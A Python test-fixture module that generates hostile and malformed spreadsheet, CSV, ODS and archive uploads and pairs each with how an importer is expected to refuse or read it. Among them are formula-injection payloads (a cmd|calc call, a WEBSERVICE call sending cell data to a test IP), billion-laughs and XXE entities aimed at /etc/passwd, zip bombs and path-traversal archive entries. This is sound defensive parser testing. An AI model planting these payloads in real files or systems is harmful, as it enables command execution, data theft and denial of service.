"""Files that nobody should send, made in code, and how reading each of them ends."""

import gzip
import io
import tarfile
import zipfile
from collections.abc import Callable, Mapping
from typing import Any, NamedTuple

import xlsxwriter

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
ODS = "application/vnd.oasis.opendocument.spreadsheet"
OLE = bytes.fromhex("d0cf11e0a1b11ae1")
GOOD = b"id,name,amount\n1,Ann,1.50\n2,Bob,2.50\n"


class Hostile(NamedTuple):
    """A file; `refused` is a phrase of the reason, else `rows` are read and these problems told."""

    name: str
    content: Callable[[], bytes]
    refused: str = ""
    rows: int = 0
    problems: tuple[str, ...] = ()


# --- Makers --------------------------------------------------------------------------------------


def book(fill: Callable[[Any, Any], object], **options: Any) -> bytes:
    """A workbook of one sheet: `fill(book, sheet)`."""
    made = io.BytesIO()
    with xlsxwriter.Workbook(made, options) as written:
        fill(written, written.add_worksheet())
    return made.getvalue()


def plain(written: Any, sheet: Any) -> None:
    sheet.write_row(0, 0, ["id", "name"])
    sheet.write_row(1, 0, [1, "Ann"])


def archive(parts: Mapping[str, bytes], how: int = zipfile.ZIP_DEFLATED) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", how) as written:
        for name, content in parts.items():
            written.writestr(name, content)
    return made.getvalue()


def parts() -> dict[str, bytes]:
    """Those of an ordinary workbook."""
    with zipfile.ZipFile(io.BytesIO(book(plain))) as written:
        return {name: written.read(name) for name in written.namelist()}


def changed(part: str, content: bytes | None = None, **parts_more: bytes) -> bytes:
    """The ordinary workbook with a part that is another one, or none."""
    new = {name: each for name, each in parts().items() if not name.endswith(part)}
    named = next(name for name in parts() if name.endswith(part))
    return archive({**new, **({} if content is None else {named: content}), **parts_more})


def replaced(part: str, old: bytes, new: bytes) -> bytes:
    named = next(name for name in parts() if name.endswith(part))
    assert old in parts()[named]
    return changed(part, parts()[named].replace(old, new))


def sheet_of(rows: bytes, before: bytes = b"") -> bytes:
    """The ordinary workbook with these rows of XML."""
    sheet = b'<?xml version="1.0"?>%s<worksheet xmlns="%s"><sheetData>%s</sheetData></worksheet>'
    return changed("sheet1.xml", sheet % (before, MAIN.encode(), rows))


def cells(*values: bytes) -> bytes:
    """A header and a row below it with these numbers, as they stand."""
    heads = b"".join(b'<c t="str"><v>h%d</v></c>' % number for number in range(len(values)))
    return b"<row>%s</row><row>%s</row>" % (
        heads,
        b"".join(b"<c><v>%s</v></c>" % value for value in values),
    )


def ods(table: bytes, before: bytes = b"") -> bytes:
    content = (
        b'<?xml version="1.0"?>%s<office:document-content'
        b' xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
        b' xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"'
        b' xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body>'
        b'<office:spreadsheet><table:table table:name="S">%s</table:table>'
        b"</office:spreadsheet></office:body></office:document-content>"
    )
    manifest = b'<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:m"/>'
    return archive({
        "mimetype": ODS.encode(),
        "content.xml": content % (before, table),
        "META-INF/manifest.xml": manifest,
    }, zipfile.ZIP_STORED)  # fmt: skip


def ods_cell(repeat: int = 1) -> bytes:
    return (
        b'<table:table-cell office:value-type="string" table:number-columns-repeated="%d">'
        b"<text:p>x</text:p></table:table-cell>" % repeat
    )


def cyclic(written: Any, sheet: Any) -> None:
    plain(written, sheet)
    sheet.write_formula("A3", "=B3", None, 0)
    sheet.write_formula("B3", "=A3", None, 0)


def days(*numbers: float, form: str = "yyyy-mm-dd") -> Callable[[Any, Any], None]:
    def fill(written: Any, sheet: Any) -> None:
        sheet.write_row(0, 0, ["id", "day"])
        for line, number in enumerate(numbers, start=1):
            sheet.write_string(line, 0, "x")
            sheet.write_number(line, 1, number, written.add_format({"num_format": form}))

    return fill


def dangerous(written: Any, sheet: Any) -> None:
    sheet.write_row(0, 0, ["id", "name"])
    sheet.write_formula("A2", "=cmd|'/c calc'!A1", None, "x")
    sheet.write_formula("B2", '=WEBSERVICE("http://192.0.2.1/"&A1)', None, "")
    sheet.write_string("A3", "=HYPERLINK(1)")


def wide(count: int) -> Callable[[Any, Any], object]:
    return lambda _, sheet: [sheet.write_row(row, 0, range(count)) for row in range(2)]


def many_sheets(written: Any, sheet: Any) -> None:
    for _ in range(300):
        written.add_worksheet()
    plain(written, sheet)


def encrypted() -> bytes:
    """As Excel writes one with a password: a compound file with a stream EncryptedPackage."""
    fat, directory, stream = (bytearray(b"\xff" * 512), bytearray(512), bytes(4096))
    chain = [0xFFFFFFFD, 0xFFFFFFFE, *range(3, 10), 0xFFFFFFFE]
    fat[: len(chain) * 4] = b"".join(each.to_bytes(4, "little") for each in chain)
    entries = (("Root Entry", 5, 1, 0xFFFFFFFE, 0), ("EncryptedPackage", 2, -1, 2, len(stream)))
    for at, (name, kind, child, start, size) in enumerate(entries):
        encoded = name.encode("utf-16-le")
        entry = bytearray(128)
        entry[: len(encoded)] = encoded
        entry[64:66] = (len(encoded) + 2).to_bytes(2, "little")
        entry[66:68] = bytes((kind, 1))
        entry[68:80] = b"\xff" * 8 + child.to_bytes(4, "little", signed=True)
        entry[116:124] = start.to_bytes(4, "little") + size.to_bytes(4, "little")
        directory[at * 128 : at * 128 + 128] = entry
    for at in (2, 3):
        directory[at * 128 + 68 : at * 128 + 80] = b"\xff" * 12
    head = OLE + bytes(16) + bytes.fromhex("3e000300feff09000600") + bytes(10)
    head += (1).to_bytes(4, "little") + (1).to_bytes(4, "little") + bytes(4)
    head += (4096).to_bytes(4, "little") + b"\xfe\xff\xff\xff" + bytes(4)
    head += b"\xfe\xff\xff\xff" + bytes(4) + bytes(4) + b"\xff" * 432
    return bytes(head + fat + directory + stream)


def nested() -> bytes:
    inner = archive({"xl/worksheets/sheet1.xml": bytes(1 << 20)})
    for _ in range(5):
        inner = archive({f"{number}.zip": inner for number in range(10)})
    return inner


def encrypted_entry() -> bytes:
    """An archive that says its first part needs a password."""
    made = bytearray(book(plain))
    made[6] |= 1
    central = made.index(b"PK\x01\x02")
    made[central + 8] |= 1
    return bytes(made)


def tar() -> bytes:
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w") as written:
        info = tarfile.TarInfo("a.csv")
        info.size = len(GOOD)
        written.addfile(info, io.BytesIO(GOOD))
    return made.getvalue()


def text(written: str, encoding: str = "utf-8") -> Callable[[], bytes]:
    return lambda: written.encode(encoding)


def data(written: bytes) -> Callable[[], bytes]:
    return lambda: written


WORKBOOK = "begins like a workbook, but is damaged"
NO_WORKBOOK = "no workbook that can be read"
NOT_TEXT = "is not a text file"
OWN_XML = "defines its own XML"
LAUGHS = (
    b'<!DOCTYPE x [<!ENTITY a "lollollollol">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9))
    + b"]>"
)
FILE_ENTITY = b'<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>'
UNPAIRED = "Its quotes do not pair up"
CONTROL = "The cell holds a control character."

TEXTS = (
    Hostile("empty.csv", data(b""), "is empty"),
    Hostile("only-line-ends.csv", data(b"\r\n\n\r\n" * 1000), "is empty"),
    Hostile("only-header.csv", data(b"id,name,amount\n")),
    Hostile("only-header-without-line-end.csv", data(b"id,name,amount")),
    Hostile("only-preamble.csv", data(b"Report of May\nprinted on 1 June\n"), rows=1),
    Hostile("only-delimiters.csv", data(b",,,,\n" * 1000), "is empty"),
    Hostile("only-a-mark.csv", data(b"\xef\xbb\xbf"), "is empty"),
    Hostile("only-spaces.csv", data(b" \t \n" * 100), "is empty"),
    Hostile("cut-in-a-row.csv", data(GOOD[:-8]), rows=1, problems=("The row has 2 cells",)),
    Hostile("cut-in-a-quote.csv", data(b'id,name\n1,"An'), "line 2 is never closed"),
    Hostile("cut-in-a-letter.csv", data("id,name\n1,Mü".encode()[:-1]), rows=1),
    Hostile("cut-utf16.csv", data("id,name\n1,Ann".encode("utf-16")[:-1]), "not utf-16 text"),
    Hostile("nul-bytes.csv", data(bytes(10_000)), NOT_TEXT),
    Hostile("a-nul.csv", data(GOOD.replace(b"Ann", b"A\0n")), rows=1, problems=(CONTROL,)),
    Hostile("nul-in-header.csv", data(GOOD.replace(b"name", b"na\0me")), rows=2),
    Hostile("control-in-header.csv", data(GOOD.replace(b"name", b"\x1b[31mname\x07")), rows=2),
    Hostile("long-line.csv", lambda: b"id,name\n" + b"x" * (50 << 20), "longer than a million"),
    Hostile("long-first-line.csv", lambda: b"x," * (25 << 20), "line 1 is longer than a million"),
    Hostile("long-cell.csv", lambda: b"id,name\n1," + b"x" * 900_000 + b"\n", rows=1),
    Hostile("long-names.csv", lambda: b"a" * 10_000 + b"," + b"b" * 10_000 + b"\n1,2\n", rows=1),
    Hostile("same-names.csv", lambda: b"id," * 499 + b"id\n" + b"1," * 499 + b"1", rows=1),
    Hostile("many-columns.csv", lambda: b"x," * 16_383 + b"x\n", "has over 2,000 columns"),
    Hostile("unpaired.csv", data(b'id,name\n1,"A"n\n2,B\n'), rows=1, problems=(UNPAIRED,)),
    Hostile("unpaired-header.csv", data(b'"id"x,name\n1,A\n2,B\n'), f"line 1: {UNPAIRED}"),
    Hostile("never-closed.csv", lambda: GOOD + b'3,"C,1\n' + b"4,D,2\n" * 400_000,
            "the quote opened on line 4 is never closed"),
    Hostile("never-closed-at-once.csv", lambda: b'"' + (b"x" * 900 + b"\n") * 2_000,
            "the quote opened on line 1 is never closed"),
    Hostile("long-lines-in-a-quote.csv", lambda: b'a,b\n1,"' + (b"x" * 700_000 + b"\n") * 4,
            "the quote opened on line 2 is never closed"),
    Hostile("only-quotes.csv", data(b'"' * 10_000)),
    Hostile("mark-in-the-middle.csv", text("id,name\n\ufeff1,\ufeffAnn\n"), rows=1),
    Hostile("right-to-left.csv", text("id,\u202ename\n1,\u202eexe.xslx\u2066\n"), rows=1),
    Hostile("other-line-ends.csv", text("id,name\u2028x\n1,A\x85n\u2029\n"), rows=1),
    Hostile("separators.csv", data(b"id,name\n1,A\x1c\x1d\x1e\x1fn\n"), problems=(CONTROL,)),
    Hostile("old-mac.csv", data(GOOD.replace(b"\n", b"\r")), rows=2),
    Hostile("copy-ends.csv", data(b"id,name\n\\.,x\n\\N,\\\n"), rows=2),
    Hostile("utf32.csv", text(GOOD.decode(), "utf-32"), rows=2),
    Hostile("surrogate.csv", data(b"id,name\n1,\xed\xa0\x80\n"), rows=1),
    Hostile("utf16-surrogate.csv", data("id,name\n1,".encode("utf-16") + b"\x00\xd8\n\x00"),
            "not utf-16 text"),
    Hostile("mixed.csv", data("id,name\n1,Mü\n".encode() + "2,Mü\n".encode("cp1252")), rows=2),
    Hostile("mark-and-other.csv", data(b"\xef\xbb\xbfid,name\n1,\xff\n"), "not utf-8-sig text"),
    Hostile("overlong.csv", data(b"id,name\n1,\xc0\x80\n2,\x81\n"), "not cp1252 text"),
    Hostile("commands.csv", data(b"id,name\n=1+1,=cmd|'/c calc'!A1\n@SUM(1),+1\n"), rows=2),
    Hostile("numbers.csv", data(b"id,amount\n1,1e400\n2,NaN\n3,-inf\n4,1e-400\n"), rows=4),
    Hostile("days.csv", data(b"id,day\n1,2024-01-01T00:00:00+99:99\n2,99999999999\n"), rows=2),
)  # fmt: skip

OTHERS = (
    Hostile("binary.csv", lambda: bytes(range(256)) * 100, "no text file, or not cp1252"),
    Hostile("paper.csv", data(b"%PDF-1.7\n1 0 obj"), "is a PDF document"),
    Hostile("picture.xlsx", data(b"\x89PNG\r\n\x1a\n" + bytes(50)), "is a picture"),
    Hostile("photo.csv", data(b"\xff\xd8\xff\xe0" + bytes(50)), "is a picture"),
    Hostile("page.xls", data(b"<html><table><tr><td>1</table>"), "is a web page"),
    Hostile("page.csv", data(b"\n <!DOCTYPE html><p>Sign in"), "is a web page"),
    Hostile("feed.csv", data(b"<?xml version='1.0'?>" + LAUGHS + b"<x>&j;</x>"), "is an XML doc"),
    Hostile("list.csv", data(b'[{"id": 1, "name": "Ann"},\n {"id": 2}]\n'), "is a JSON document"),
    Hostile("object.txt", data(b'{"rows": [[1, 2], [3, 4]]}\n'), "is a JSON document"),
    Hostile("packed.csv", lambda: gzip.compress(GOOD), "is a compressed file"),
    Hostile("tape.csv", tar, NOT_TEXT),
    Hostile("program.csv", data(b"\x7fELF" + bytes(500)), NOT_TEXT),
    Hostile("letter.rtf", data(b"{\\rtf1 hello}"), "is a text document"),
    Hostile("text.xlsx", data(GOOD), rows=2),
    Hostile("text.xls", data(GOOD), rows=2),
    Hostile("book.csv", lambda: book(plain), rows=1),
)

BOOKS = (
    *(Hostile(f"cut-{at}.xlsx", lambda at=at: book(plain)[:at], WORKBOOK)  # type: ignore[misc]
      for at in (4, 30, 500, 2_000, -22, -200)),
    Hostile("garbage.xlsx", data(b"PK\x03\x04" + bytes(range(256)) * 20), WORKBOOK),
    Hostile("empty-archive.xlsx", data(b"PK\x05\x06" + bytes(18)), NOT_TEXT),
    Hostile("no-sheet.xlsx", lambda: changed("sheet1.xml"), NO_WORKBOOK),
    Hostile("no-workbook.xlsx", lambda: changed("workbook.xml"), "has no sheet"),
    Hostile("no-strings.xlsx", lambda: changed("sharedStrings.xml"), NO_WORKBOOK),
    Hostile("no-styles.xlsx", lambda: changed("styles.xml"), rows=1),
    Hostile("zero-sheet.xlsx", lambda: changed("sheet1.xml", b""), NO_WORKBOOK),
    Hostile("empty-sheet.xlsx", lambda: book(lambda *_: None), "is empty"),
    Hostile("only-header.xlsx", lambda: book(lambda _, s: s.write_row(0, 0, ["id", "name"]))),
    Hostile("string-beyond.xlsx", lambda: replaced("sheet1.xml", b't="s"><v>2', b't="s"><v>99'),
            NO_WORKBOOK),
    Hostile("broken-bits.xlsx", lambda: (made := book(plain))[:900] + bytes(60) + made[960:],
            "broken-bits.xlsx"),
    Hostile("password.xlsx", encrypted, "is encrypted"),
    Hostile("password-of-any-name.csv", encrypted, "is encrypted"),
    Hostile("password-in-archive.xlsx", encrypted_entry, WORKBOOK),
    Hostile("old.xls", data(OLE + bytes(4_000)), NO_WORKBOOK),
    Hostile("old-random.xls", data(OLE + bytes(range(256)) * 40), NO_WORKBOOK),
    Hostile("old-short.xls", data(OLE), NO_WORKBOOK),
    Hostile("bomb.xlsx", lambda: changed("sheet1.xml", bytes(60 << 20)), "would unpack to"),
    Hostile("nested.xlsx", nested, NO_WORKBOOK),
    Hostile("many-parts.xlsx", lambda: archive({f"{n}.xml": b"" for n in range(10_001)}),
            "in 10,001 parts"),
    Hostile("climbing.xlsx", lambda: archive({**parts(), "../../etc/passwd": b"x", "/abs": b"x"}),
            rows=1),
    Hostile("laughs.xlsx", lambda: sheet_of(cells(b"&j;"), LAUGHS), OWN_XML),
    Hostile("outside.xlsx", lambda: sheet_of(cells(b"&f;"), FILE_ENTITY), OWN_XML),
    Hostile("far-cell.xlsx", lambda: sheet_of(
        b'<row r="1"><c r="A1"><v>1</v></c></row>'
        b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'), "far-cell.xlsx"),
    Hostile("cell-beyond.xlsx", lambda: sheet_of(
        b'<row><c r="A1"><v>1</v></c><c r="ZZZZZZZ99999999999"><v>1</v></c></row>'),
        "is damaged, or holds a number"),
    Hostile("far-lie.xlsx", lambda: replaced("sheet1.xml", b"A1:B2", b"A1:XFD1048576"), rows=1),
    Hostile("many-columns.xlsx", lambda: book(wide(16_384)), "has over 2,000 columns"),
    Hostile("many-sheets.xlsx", lambda: book(many_sheets), rows=1),
    Hostile("formulas.xlsx", lambda: book(dangerous), rows=2),
    Hostile("cyclic.xlsx", lambda: book(cyclic), rows=2),
    Hostile("shared-cyclic.xlsx", lambda: sheet_of(
        b'<row><c r="A1"><f t="shared" ref="A1:B2" si="0">B1</f><v>1</v></c></row>'
        b'<row><c r="A2"><f t="shared" si="0"/><v>2</v></c></row>'), rows=1),
    Hostile("macros.xlsm", lambda: archive({**parts(), "xl/vbaProject.bin": OLE + bytes(500)}),
            rows=1),
    Hostile("numbers.xlsx", lambda: sheet_of(cells(b"1e400", b"NaN", b"-1e400")), rows=1),
    Hostile("days.xlsx", lambda: book(days(-5, 0, 60, 2_958_466, 1e10, 1e308)),
            rows=6),
    Hostile("no-time.xlsx", lambda: book(days(-1e18, form="[h]:mm")),
            "line 2, is damaged, or holds a number"),
    Hostile("durations.xlsx", lambda: book(days(1e9, 1, form="[h]:mm")), rows=1,
            problems=("its number is too large for one",)),
    Hostile("control.xlsx", lambda: replaced("sharedStrings.xml", b"Ann", b"A_x0000_n"),
            problems=(CONTROL,)),
    Hostile("bomb.ods", lambda: ods(
        b'<table:table-row table:number-rows-repeated="1048576">' + ods_cell(16_384)
        + b"</table:table-row>"), "bomb.ods"),
    Hostile("laughs.ods", lambda: ods(b"", LAUGHS), OWN_XML),
    Hostile("good.ods", lambda: ods(
        (b"<table:table-row>" + ods_cell(2) + b"</table:table-row>") * 2), rows=1),
)  # fmt: skip

HOSTILE = (*TEXTS, *OTHERS, *BOOKS)
